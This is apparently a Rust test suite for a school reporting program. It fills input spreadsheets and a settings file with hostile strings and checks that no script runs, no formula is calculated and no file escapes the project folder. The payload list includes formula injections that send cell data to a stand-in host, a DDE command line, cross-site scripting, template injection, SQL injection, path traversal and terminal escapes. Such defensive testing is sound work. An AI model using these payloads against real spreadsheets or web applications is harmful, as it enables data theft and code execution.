//! Inputs as attackers: whatever stands in a cell or in school.toml is shown as text. No script runs, no formula is
//! calculated, no markup is obeyed, no file lands elsewhere, no terminal is steered.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::sync::OnceLock;

use quick_xml::Reader;
use quick_xml::events::Event;
use serde_json::{Value, json};
use thrive_report::tables::definition::{self, ColumnType};

use crate::binary::{Said, TERM, files_in, parts, project, run, say};
use crate::chromium::Chrome;
use crate::dialects::school::{self, Cell, Grid};
use crate::sample_school::calendar::plus;
use crate::sample_school::settings::SCHOOL_TOML;

/// What an attacker writes into a cell. Each says in its own language: do something.
const PAYLOADS: [&str; 30] = [
    "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"Click\")",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/C notepad'!A1",
    "=WEBSERVICE(\"http://evil.invalid/\")",
    "=[evil.xlsx]Sheet1!A1",
    "Summary!A1",
    "\t=1+1",
    "<script>window.stolen=1</script>",
    "<img src=x onerror=\"window.stolen=2\">",
    "\"><svg onload=window.stolen=3>",
    "</style><script>window.stolen=4</script>",
    "</title><base href=http://evil.invalid/>",
    "' onmouseover='window.stolen=5",
    "javascript:window.stolen=6",
    "<a href=\"javascript:window.stolen=7\">x</a>",
    "]]><!--",
    "&lt;b&gt; &amp;amp; &#60;i&#62;",
    "{{ 7*7 }}{% include \"x\" %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "#panic(\"markup\") $x^2$ *bold* _it_ `raw` <label> @ref //",
    "#read(\"/etc/passwd\") #include \"x.typ\"",
    "\"; DROP TABLE pupil; --",
    "../../../evil",
    "..\\..\\evil C:evil",
    "\u{1b}[2J\u{7}\u{9b}31m",
    "\u{202e}txt.exe\u{fffe}\u{0}\u{b}",
    "_x003D_1+1 _x000D_",
];

/// A child's own row of a table, every text column a payload: in so many rows each payload stands in each column once.
fn grid(table: &definition::TableDefinition) -> Grid {
    let children = school::children();
    let columns: Vec<_> = table.columns.iter().filter(|column| column.template || column.required).collect();
    let mut grid = vec![columns.iter().map(|column| Cell::Text(column.name.clone())).collect::<Vec<_>>()];
    for row in 0..PAYLOADS.len().max(children.len()) {
        let child = &children[row % children.len()];
        let cell = |(at, column): (usize, &&definition::ColumnDefinition)| {
            let payload = PAYLOADS[(row + at) % PAYLOADS.len()];
            match (column.id.as_str(), column.kind) {
                ("upn", _) => Cell::from(child.upn.as_str()),
                ("date_of_birth", _) => Cell::Day(child.born),
                ("year_group", _) => Cell::from(child.year),
                ("pupil_id", _) if table.id == "pupils" => Cell::from(child.id.as_str()),
                ("pupil_id", _) => Cell::Blank,
                ("leaving_date" | "expires" | "closed", _) => Cell::Blank,
                (_, ColumnType::Text) => Cell::Text(payload.to_owned()),
                // Spread over a few weeks, so that no two records are the same.
                ("end_date" | "to" | "review", ColumnType::Date) => Cell::Day(plus(school::MONDAY, 40 + row as i32)),
                (_, ColumnType::Date) => Cell::Day(plus(school::MONDAY, row as i32 / 12)),
                _ => Cell::Text(column.example.clone()),
            }
        };
        grid.push(columns.iter().enumerate().map(cell).collect());
    }
    grid
}

fn toml_text(payload: &str) -> String {
    // A basic string of TOML with everything escaped that must be.
    let escaped: String = payload.chars().map(|c| format!("\\U{:08X}", u32::from(c))).collect();
    format!("\"{escaped}\"")
}

/// school.toml with every free text a payload.
fn settings() -> String {
    let school = SCHOOL_TOML.replacen("[policy]", "[policy]\n", 1);
    let name = school.lines().find(|line| line.starts_with("name")).expect("a name").to_owned();
    let school = school.replacen(
        &name,
        &format!("name = {}", toml_text("</title><script>window.stolen=8</script>=1+1 #panic() Hill")),
        1,
    );
    let courses: Vec<String> = PAYLOADS.iter().map(|payload| toml_text(payload)).collect();
    let staff = format!("all_staff_courses = [{}]", courses.join(", "));
    let school = match school.contains("[policy.staff]") {
        true => {
            let lines = school.lines().filter(|line| !line.trim_start().starts_with("all_staff_courses"));
            lines.collect::<Vec<_>>().join("\n").replacen("[policy.staff]", &format!("[policy.staff]\n{staff}"), 1)
        }
        false => format!("{school}\n[policy.staff]\n{staff}\n"),
    };
    let lines =
        school.lines().filter(|line| !line.trim_start().starts_with("drawn_by_lot")).collect::<Vec<_>>().join("\n");
    let impact = format!("drawn_by_lot = [{}]", courses.join(", "));
    let school = match lines.contains("[policy.impact]") {
        true => lines.replacen("[policy.impact]", &format!("[policy.impact]\n{impact}"), 1),
        false => format!("{lines}\n[policy.impact]\n{impact}\n"),
    };
    let board = toml_text("=1+1\"><img src=x onerror=window.stolen=9> #panic()");
    let mark = toml_text("&R&\"Arial\" </style><script>window.stolen=10</script> #panic() =1+1");
    format!("{school}\n[branding]\nboard = {board}\ngovernors_mark = {mark}\n")
}

struct Attacked {
    _folder: tempfile::TempDir,
    project: std::path::PathBuf,
    said: Said,
}

/// The packs of a school in which every text attacks; made once.
fn attacked() -> &'static Attacked {
    static ATTACKED: OnceLock<Attacked> = OnceLock::new();
    ATTACKED.get_or_init(|| {
        let mut files: Vec<(String, Vec<u8>)> = Vec::new();
        for table in definition::load().expect("sound") {
            let mut rows = grid(&table);
            if table.id == "pupils" || table.id == "attendance_summary" {
                // Each child once: two totals of one time would contradict each other.
                rows.truncate(school::children().len() + 1);
            }
            files.push((format!("{}.csv", table.id), school::csv(&rows)));
        }
        files.push(("scores.csv".into(), school::csv(&school::screening_wide())));
        files.push(("register.csv".into(), school::csv(&school::marks_long())));
        // Names of files, sheets and headings are a school's own words too.
        let strange = vec![
            vec![
                Cell::from("UPN"),
                Cell::from("Date"),
                Cell::from("Session"),
                Cell::from("Mark"),
                Cell::from("=1+1<script>window.stolen=11</script>"),
            ],
            vec![
                Cell::from(school::children()[0].upn.as_str()),
                Cell::from("30/02/2026"),
                Cell::from("AM"),
                Cell::from("Ø"),
                Cell::Blank,
            ],
        ];
        files.push((
            "=1+1 <img src=x onerror=window.stolen=12>.xlsx".into(),
            school::xlsx(&[("=1+1 <b>&'\"", &strange)]),
        ));
        let files: Vec<(&str, Vec<u8>)> = files.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect();
        let folder = project(&files);
        fs::write(folder.path().join("school.toml"), settings()).expect("written");
        let said = run(folder.path());
        assert!(matches!(said.code, 0 | 1), "the run is finished: {said:?}");
        Attacked { project: folder.path().to_owned(), _folder: folder, said }
    })
}

fn packs() -> std::path::PathBuf {
    attacked().project.join("packs").join(TERM)
}

#[test]
fn the_payloads_are_really_in_the_packs() {
    let texts: String = files_in(&packs())
        .into_iter()
        .filter(|(name, _)| name.ends_with(".html"))
        .map(|(_, bytes)| String::from_utf8(bytes).expect("UTF-8"))
        .collect();
    // Escaped as HTML wants it: what a browser shows is the payload itself.
    for shown in ["&lt;script&gt;window.stolen=1&lt;", "=1+1", "#panic(", "{{ 7*7 }}"] {
        assert!(texts.contains(shown), "{shown} is nowhere: the test would show nothing");
    }
}

#[test]
fn no_script_runs_and_no_element_comes_from_a_cell() {
    let chrome = Chrome::start();
    let pages: Vec<String> = files_in(&packs()).into_keys().filter(|name| name.ends_with(".html")).collect();
    assert!(pages.len() >= 8, "{pages:?}");
    for page in pages {
        let opened = chrome.open(&packs().join(&page));
        assert_eq!(opened.ask("typeof window.stolen"), "undefined", "{page}: a script ran");
        // A click, a key and a pointer over every element start nothing either.
        opened.inject(
            "for (const e of document.querySelectorAll('body *')) for (const kind of ['mouseover', 'focus', 'load', 'error'])
                e.dispatchEvent(new Event(kind, { bubbles: true }));",
        );
        assert_eq!(opened.ask("typeof window.stolen"), "undefined", "{page}: a script ran");
        for complaint in ["Page.javascriptDialogOpening", "Log.entryAdded", "Runtime.exceptionThrown"] {
            assert_eq!(opened.events(complaint), Vec::<Value>::new(), "{page}");
        }
        assert_eq!(opened.ask("document.scripts.length"), 1, "{page}");
        assert_eq!(
            opened.ask("document.querySelectorAll('img, base, iframe, object, embed, form, link, input:not([type=radio])').length"),
            0,
            "{page}"
        );
        let strays = opened.ask(
            "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])
                .filter(a => /^on/i.test(a.name) || (/^(href|src|action|xlink:href)$/i.test(a.name) && !a.value.startsWith('#')))
                .map(a => a.name + '=' + a.value)",
        );
        assert_eq!(strays, json!([]), "{page}");
        let drawn =
            opened.ask("[...document.querySelectorAll('svg')].every(svg => svg.getAttribute('role') === 'img')");
        assert_eq!(drawn, true, "{page}: a drawing that is none of the program's");
        let fetched = opened.events("Network.requestWillBeSent").len();
        assert_eq!(fetched, 1, "{page} fetches something");
    }
}

#[test]
fn a_page_without_its_guards_would_be_noticed() {
    // The same page with its escapes undone and its policy taken out: now the cells' scripts run.
    let page = fs::read_to_string(packs().join("staff/pupil-lists.html")).expect("there");
    let (before, rest) = page.split_once("<meta http-equiv=\"Content-Security-Policy\"").expect("a policy");
    let bare = format!("{before}{}", rest.split_once('>').expect("its end").1);
    let bare = bare
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&#x2f;", "/");
    let folder = tempfile::tempdir().expect("a temporary folder");
    fs::write(folder.path().join("bare.html"), bare).expect("written");
    let chrome = Chrome::start();
    assert_eq!(chrome.open(&folder.path().join("bare.html")).ask("typeof window.stolen"), "number");
    // And a workbook with a formula in it.
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().write_formula(0, 0, "=1+1").expect("written");
    let sheet = &parts(&book.save_to_buffer().expect("a workbook"))["xl/worksheets/sheet1.xml"];
    assert!(elements("sheet", sheet).iter().any(|(element, _)| element == "f"));
}

/// Every element and its attributes of an XML text, which must be well-formed.
fn elements(name: &str, text: &[u8]) -> Vec<(String, Vec<(String, String)>)> {
    let mut reader = Reader::from_reader(text);
    reader.config_mut().check_end_names = true;
    let mut found = Vec::new();
    let mut buffer = Vec::new();
    let mut depth = 0_i32;
    loop {
        match reader.read_event_into(&mut buffer) {
            Ok(Event::Eof) => break,
            Ok(event) => {
                match &event {
                    Event::Start(_) => depth += 1,
                    Event::End(_) => depth -= 1,
                    Event::Text(text) => {
                        let text: &str = text.as_ref();
                        let bad = |c: char| {
                            (c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\u{80}'..='\u{9f}'))
                                || matches!(c, '\u{fffe}' | '\u{ffff}')
                        };
                        assert!(!text.contains(bad), "{name}: a character that XML forbids in {text:?}");
                    }
                    _ => {}
                }
                if let Event::Start(element) | Event::Empty(element) = &event {
                    let attributes = element.attributes().map(|attribute| {
                        let attribute = attribute.unwrap_or_else(|error| panic!("{name}: {error}"));
                        (attribute.key.as_ref().to_owned(), attribute.value.into_owned())
                    });
                    let attributes = attributes.collect();
                    found.push((element.name().as_ref().to_owned(), attributes));
                }
            }
            Err(error) => panic!("{name} is not well-formed: {error}"),
        }
        buffer.clear();
    }
    assert_eq!(depth, 0, "{name}: something is left open");
    found
}

#[test]
fn workbooks_and_documents_calculate_nothing_and_fetch_nothing() {
    let mut looked_at = 0;
    for (file, bytes) in files_in(&packs()) {
        if !file.ends_with(".xlsx") && !file.ends_with(".docx") {
            continue;
        }
        for (part, bytes) in parts(&bytes) {
            if !part.ends_with(".xml") && !part.ends_with(".rels") {
                continue;
            }
            let name = format!("{file}!{part}");
            for (element, attributes) in elements(&name, &bytes) {
                let value =
                    |key: &str| attributes.iter().find(|(name, _)| name == key).map(|(_, value)| value.as_str());
                match element.as_str() {
                    "f" if part.starts_with("xl/worksheets/") => panic!("{name} has a formula"),
                    "hyperlink" | "w:hyperlink" => {
                        assert!(value("r:id").is_none(), "{name}: a link that leads out of the file");
                    }
                    "w:instrText" | "w:fldSimple" => {
                        assert!(
                            value("w:instr").is_none_or(|field| ["PAGE", "NUMPAGES"].contains(&field.trim())),
                            "{name}"
                        );
                    }
                    "Relationship" => assert_ne!(value("TargetMode"), Some("External"), "{name}"),
                    "externalReference" | "ddeLink" | "oleLink" | "w:object" => panic!("{name}: {element}"),
                    _ => {}
                }
                looked_at += 1;
            }
        }
    }
    assert!(looked_at > 10_000, "{looked_at} elements");
}

#[test]
fn cells_of_charts_are_the_workbooks_own() {
    for (file, bytes) in files_in(&packs()).into_iter().filter(|(name, _)| name.ends_with(".xlsx")) {
        for (part, bytes) in parts(&bytes).into_iter().filter(|(part, _)| part.starts_with("xl/charts/chart")) {
            let text = String::from_utf8(bytes).expect("UTF-8");
            for formula in text.split("<c:f>").skip(1).filter_map(|rest| rest.split("</c:f>").next()) {
                assert!(formula.contains("!$") && !formula.contains('['), "{file}!{part} reads {formula}");
            }
        }
    }
}

#[test]
fn drawings_are_drawings() {
    let mut seen = 0;
    for (file, bytes) in files_in(&packs()).into_iter().filter(|(name, _)| name.ends_with(".svg")) {
        for (element, attributes) in elements(&file, &bytes) {
            let known = ["svg", "title", "desc", "text", "rect", "line", "polyline", "polygon", "circle", "path", "g"];
            assert!(known.contains(&element.as_str()), "{file}: {element}");
            let odd = attributes.iter().find(|(name, _)| name.starts_with("on") || name.contains("href"));
            assert_eq!(odd, None, "{file}");
        }
        seen += 1;
    }
    assert!(seen > 2, "{seen} drawings");
}

#[test]
fn a_print_shows_markup_as_text_and_does_nothing() {
    use pdf_extract::{Document, Object};
    let mut shown = false;
    for (file, bytes) in files_in(&packs()).into_iter().filter(|(name, _)| name.ends_with(".pdf")) {
        let document = Document::load_mem(&bytes).unwrap_or_else(|error| panic!("{file}: {error}"));
        for object in document.objects.values() {
            let entries = match object {
                Object::Dictionary(entries) => entries,
                Object::Stream(stream) => &stream.dict,
                _ => continue,
            };
            for (key, value) in entries.iter() {
                let name = value.as_name().map(|name| String::from_utf8_lossy(name).into_owned()).unwrap_or_default();
                assert!(
                    !["JS", "JavaScript", "Launch", "OpenAction", "EmbeddedFile"]
                        .contains(&&*String::from_utf8_lossy(key)),
                    "{file}"
                );
                assert!(
                    !(key == b"S" && ["URI", "JavaScript", "Launch", "SubmitForm", "GoToR"].contains(&name.as_str())),
                    "{file}: {name}"
                );
            }
        }
        let text = pdf_extract::extract_text_from_mem(&bytes).expect("text");
        shown |= text.split_whitespace().collect::<String>().contains("#panic(");
    }
    assert!(shown, "the payload is in none of the prints: the test would show nothing");
}

#[test]
fn no_file_lands_anywhere_else() {
    let named = |name: &String| name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-./".contains(c));
    for name in files_in(&packs()).into_keys() {
        assert!(named(&name) && !name.contains(".."), "{name}");
    }
    let top: BTreeSet<String> = fs::read_dir(&attacked().project)
        .expect("listed")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("a name"))
        .collect();
    let known = [".thrive-report.lock", "cache", "inbox", "ledger", "packs", "review", "school.toml", "secret.key"]
        .map(str::to_owned);
    assert!(top.is_subset(&BTreeSet::from(known)), "{top:?}");
    for name in files_in(&attacked().project.join("cache")).into_keys() {
        assert!(named(&name) && !name.contains(".."), "{name}");
    }
    for (name, bytes) in files_in(&packs()).into_iter().filter(|(name, _)| name.ends_with(".json")) {
        let read: Result<Value, _> = serde_json::from_slice(&bytes);
        assert!(read.is_ok(), "{name}");
    }
}

#[test]
fn no_terminal_is_steered() {
    let project = attacked().project.as_os_str();
    let others = [
        say(["check".as_ref(), project]),
        say(["inventory".as_ref(), "--project".as_ref(), project]),
        say(["retain".as_ref(), "--as-of".as_ref(), "2060-01-01".as_ref(), "--project".as_ref(), project]),
    ];
    for said in others.iter().chain([&attacked().said]) {
        for text in [&said.stdout, &said.stderr] {
            let steers = |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
            let found: Vec<&str> = text.lines().filter(|line| line.contains(steers)).collect();
            assert_eq!(found, Vec::<&str>::new());
        }
    }
}

#[test]
fn a_list_for_a_spreadsheet_has_no_formula() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let list = folder.path().join("record.csv");
    let project = attacked().project.as_os_str();
    let said = say(["inventory".as_ref(), "--csv".as_ref(), list.as_os_str(), "--project".as_ref(), project]);
    assert_eq!(said.code, 0, "{said:?}");
    let mut reader = csv::Reader::from_path(&list).expect("there");
    let mut quoted = 0;
    for record in reader.records() {
        for cell in &record.expect("a record") {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
            quoted += usize::from(cell.starts_with("'="));
        }
    }
    assert!(quoted > 0, "the sheet is called like a formula: it is in the list, as a text");
}

#[test]
fn a_text_without_end_costs_one_cell_and_not_the_run() {
    let mut pupils = school::pupils();
    pupils[1][7] = Cell::Text("W".repeat(40_000));
    let long = |words: usize| "word ".repeat(words);
    let form = vec![
        school::texts(&["Form year", "Area", "Reference", "Question", "Narrative"]),
        school::texts(&["2026", "Leadership", "Q1", "Who?", &long(9_000)]),
        school::texts(&["2026", "Leadership", "Q2", "Who?", &long(2_900)]),
    ];
    let mut heads = school::marks_long();
    heads[0].extend((0..400).map(|at| Cell::Text(format!("{} {at}", "heading ".repeat(100)))));
    let folder = project(&[
        ("pupils.csv", school::csv(&pupils)),
        ("form.csv", school::csv(&form)),
        ("marks.csv", school::csv(&heads)),
    ]);
    let said = run(folder.path());
    assert_eq!(said.code, 1, "{}", said.stderr);
    assert!(said.stderr.contains("a name of at most 200 characters"), "{}", said.stderr);
    assert!(said.stderr.contains("a text of at most 15,000 characters"), "{}", said.stderr);
    let page = fs::read_to_string(folder.path().join("packs").join(TERM).join("ambassador/ambassador-evidence.html"));
    assert!(page.expect("there").contains(long(2_900).trim()), "what fits is shown whole");
}

#[test]
fn a_report_or_crest_of_the_schools_own_leads_nowhere_else() {
    let refused = |more: &str, report: Option<&str>| {
        let folder = project(&school::inbox());
        fs::write(folder.path().join("school.toml"), format!("{SCHOOL_TOML}\n{more}")).expect("written");
        if let Some(report) = report {
            fs::create_dir(folder.path().join("reports")).expect("made");
            fs::write(folder.path().join("reports/own.toml"), report).expect("written");
        }
        let said = run(folder.path());
        assert_eq!(said.code, 2, "{said:?}");
        assert!(!Path::new(folder.path()).join("packs").exists());
        said.stderr
    };
    for crest in ["../crest.png", "/etc/hostname", "C:\\\\crest.png", "..\\\\crest.png"] {
        let said = refused(&format!("[branding]\nlogo = \"{crest}\"\nlogo_alt = \"Crest\"\n"), None);
        assert!(said.contains("outside the project folder"), "{said}");
    }
    let own = include_str!("../reports/whole-class.toml");
    for id in ["../../evil", "a/b", "a b", "C:evil", ""] {
        let line = own.lines().find(|line| line.starts_with("id = ")).expect("an id");
        let said = refused("", Some(&own.replacen(line, &format!("id = \"{id}\""), 1)));
        assert!(said.contains("cannot be an id"), "{id}: {said}");
    }
}
